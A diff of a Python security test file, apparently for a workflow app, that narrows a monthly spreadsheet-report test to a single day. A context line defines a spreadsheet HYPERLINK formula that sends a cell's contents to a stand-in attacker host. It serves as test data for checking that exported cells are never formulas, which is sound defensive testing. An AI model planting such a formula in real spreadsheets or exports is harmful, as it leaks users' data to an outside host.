@@ -18,6 +18,7 @@ from tests.security_world import XSS, build_security_world, drop_security_world
 from tests.test_workflow_whistles import plan
 from tests.workflow_world import PASSWORD, make_incident
 from workflow.accounts import load_actor
+from workflow.clock import BEIJING
 from workflow.whistles.service import blow_whistle
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
@@ -134,7 +135,10 @@ def test_the_csp_blocks_an_injected_inline_script(dash_duo, sw):
 
 def test_no_cell_of_the_monthly_report_is_a_formula(sw):
     client = sw.client("chief_a")
-    response = client.get("/api/v1/reports/monthly.xlsx")
+    # The day the hostile texts were written, whole (the default is the last full month while
+    # the current one is young, and a running month ends at this very moment).
+    day = SESSION_NOW.astimezone(BEIJING).date().isoformat()
+    response = client.get(f"/api/v1/reports/monthly.xlsx?from={day}&to={day}")
     assert response.status_code == 200, response.get_data(as_text=True)[:300]
     book = load_workbook(BytesIO(response.data))
     cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
